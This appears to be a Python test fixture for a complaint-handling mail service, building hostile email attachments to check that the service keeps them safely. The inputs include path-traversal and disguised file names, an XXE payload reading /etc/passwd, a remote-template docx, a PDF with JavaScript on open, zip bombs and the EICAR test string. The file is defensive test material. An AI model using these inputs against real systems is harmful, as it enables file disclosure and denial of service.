"""What comes attached: rows 105 to 120 of the list of bad input. No file is opened by its name, run or sent on."""

from __future__ import annotations

from tests.corpus.letter_files import docx, pdf
from tests.hostile.build import file, html, mail, multipart, with_files, zipped
from tests.hostile.row import ACCEPTED, UNSURE, URGENT, Later, Mail, Proved, filed

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF, DOCX, ZIP = (
    b"application/pdf",
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    b"application/zip",
)
NAMES = (
    "../../etc/passwd", "C:\\\\x", "CON", ".htaccess", "n" * 4_000, "x.pdf .exe", "", "~$x", "a.pdf\0.exe",
    "annexe\u202efdp.exe",
)  # fmt: skip
PROGRAMS = ("exe", "js", "lnk", "iso", "one", "hta", "vbs", "html", "svg", "mht")
CUT_NAME = (
    b"Content-Type: application/pdf\nContent-Disposition: attachment; filename*0*=utf-8''..%2F; filename*1*=x\n\n%PDF"
)
KEPT = (("pdf", b""), ("heic", b"\0\0\0\x18ftypheic"), ("pages", b"PK"), ("zipx", b"PK"), ("m4a", b"\0"))
ENDLESS = b"%PDF-1.4\n" + b"1 0 obj << /Length 1 >> stream\n" * 50_000
TEMPLATE = "word/_rels/settings.xml.rels"
XXE = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://canary.x.example/t.dotm" TargetMode="External"/></Relationships>'
)
ACTIVE = pdf("A letter").replace(
    b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> /AA << >>"
)


def _with(row: int, name: str, *files: bytes) -> Mail:
    return Mail(row, name, mail(entity=with_files(*files)), ACCEPTED)


def _many_files(count: int) -> bytes:
    return zipped((f"{n}.txt", b"") for n in range(count))


def _deep(levels: int) -> bytes:
    inner = b"0" * 1_000_000
    for _ in range(levels):
        inner = zipped([("inner.zip", inner)])
    return inner


MAILS = (
    _with(105, "names that are paths, devices, lies and nothing", *(file(name, b"data", PDF) for name in NAMES)),
    _with(105, "a stroke in a name cut into pieces", CUT_NAME),
    _with(106, "two files of one name", file("letter.pdf", b"%PDF 1", PDF), file("letter.pdf", b"%PDF 2", PDF)),
    _with(107, "programs", *(file(f"open.{end}", b"MZ") for end in PROGRAMS)),
    _with(108, "a program called PDF", file("letter.pdf", b"MZ\x90\x00", PDF)),
    _with(108, "a ZIP called PDF", file("letter.pdf", zipped([("a", b"b")]), PDF)),
    _with(109, "a document with macros", file("letter.docm", zipped([("word/vbaProject.bin", b"x")]))),
    _with(
        109,
        "a document with a template elsewhere",
        file("letter.docx", zipped([(TEMPLATE, REMOTE.encode()), ("word/document.xml", b"<w/>")]), DOCX),
    ),
    _with(
        109,
        "a document that reads a file of ours",
        file("letter.docx", zipped([("word/document.xml", XXE.encode())]), DOCX),
    ),
    _with(110, "a harmless virus", file("eicar.com", EICAR)),
    _with(112, "a ZIP of 10,000 files", file("many.zip", _many_files(10_000), ZIP)),
    _with(112, "a ZIP in a ZIP, six times", file("deep.zip", _deep(6), ZIP)),
    _with(112, "a ZIP far smaller than what is in it", file("bomb.zip", zipped([("a", b"0" * 30_000_000)]), ZIP)),
    _with(
        112,
        "a document far smaller than what is in it",
        file("letter.docx", zipped([("word/document.xml", b"<w>" + b" " * 60_000_000 + b"</w>")]), DOCX),
    ),
    Mail(
        113,
        "papers in a ZIP with a password",
        mail(
            "Please find attached the papers. The password follows.",
            sender="PSU <psu@mps.example>",
            subject="Papers: PC/04417/26",
            entity=with_files(
                file("papers.zip", zipped([("papers.pdf", b"%PDF")], password=True), ZIP),
                text="Please find attached the papers you asked for. The password follows.",
            ),
        ),
        filed("papers", "force_or_iopc", UNSURE, "Which case"),
    ),
    Mail(
        115,
        "a decision letter of somebody else from the police",
        mail(
            sender="PSU <psu@mps.example>",
            subject="Papers: PC/04417/26",
            entity=with_files(
                file("Outcome letter Bob Teal.docx", docx("Dear Mr Teal\nYour complaint PC/09999/26"), DOCX),
                text="Please find attached the papers you asked for in the review of this complaint.",
            ),
        ),
        filed("papers", "force_or_iopc", URGENT, "may be somebody else's"),
    ),
    _with(
        116, "an empty file, a photograph, a film and others", *(file(f"evidence.{end}", data) for end, data in KEPT)
    ),
    _with(117, "a PDF that wants to run something", file("letter.pdf", ACTIVE, PDF)),
    _with(117, "a PDF that never ends", file("letter.pdf", ENDLESS, PDF)),
    Mail(
        118,
        "two pictures of one Content-ID",
        mail(
            entity=multipart(
                "mixed",
                multipart(
                    "related",
                    html("<p>I would like a review of my complaint PC/04417/26.</p><img src=cid:a>"),
                    b"Content-Type: image/png\nContent-ID: <a>\n\n1",
                    b"Content-Type: image/png\nContent-ID: <a>\n\n2",
                ),
                file("injury.jpg", b"\xff\xd8", b"image/jpeg"),
            )
        ),
        ACCEPTED,
    ),
)

ELSEWHERE = (
    Proved(105, "tests/test_mime.py::test_file_names_are_labels"),
    Proved(109, "tests/test_documents.py::test_no_entity_is_ever_followed"),
    Proved(112, "tests/test_documents.py::test_a_document_that_kills_the_child_costs_no_message"),
    Proved(114, "tests/test_hostile.py::test_twenty_mails_in_an_hour_are_kept_and_answered_once"),
    Proved(118, "tests/test_mime.py::test_only_pictures_inside_the_text_are_inline"),
    Later(107, "nothing is passed on yet; 'not openable here' is for the viewer"),
    Later(108, "a mark for a name that belies its content is for the viewer"),
    Later(110, "there is no virus scanner beside the service yet; no file is ever opened or sent on by it"),
    Later(111, "the same"),
    Later(119, "files are kept inside their raw mail under its case's key; a store of single files comes with papers"),
    Later(120, "our own backup coming back is for the watch over the service's own health"),
)
